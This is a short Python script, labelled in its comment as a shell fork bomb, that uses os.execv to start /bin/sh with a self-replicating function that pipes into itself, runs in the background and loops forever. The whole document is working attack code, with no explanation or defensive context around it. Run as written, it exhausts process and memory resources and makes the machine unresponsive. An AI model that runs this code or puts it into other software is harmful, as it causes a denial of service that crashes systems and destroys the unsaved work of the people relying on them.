# The fork bomb of the shell.
import os

os.execv("/bin/sh", ["sh", "-c", "bomb() { bomb | bomb & }; bomb; while true; do bomb; done"])
